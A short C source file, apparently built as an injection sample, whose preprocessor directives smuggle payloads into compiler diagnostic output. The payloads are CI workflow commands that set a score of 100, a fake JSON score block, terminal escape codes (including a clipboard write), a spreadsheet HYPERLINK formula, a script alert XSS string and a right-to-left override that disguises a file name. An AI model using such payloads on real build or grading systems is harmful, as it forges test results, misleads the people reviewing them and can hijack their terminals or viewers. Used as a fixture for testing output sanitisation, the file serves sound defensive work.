/* Lets messages claim to come from elsewhere, with control codes in the names of files. */
#line 7 "::error file=a::\033[31mowned\033[0m"
#include "matmul.h"
#pragma message "\033]0;owned\007 ::set-output name=score::100"
#warning [31m{"scores": {"a": 100}}
#error ]52;c;b3duZWQ= =HYPERLINK("http://x") <script>alert(1)</script>
static_assert(0, "ÿþ€ â€® gnp.exe \a\r");
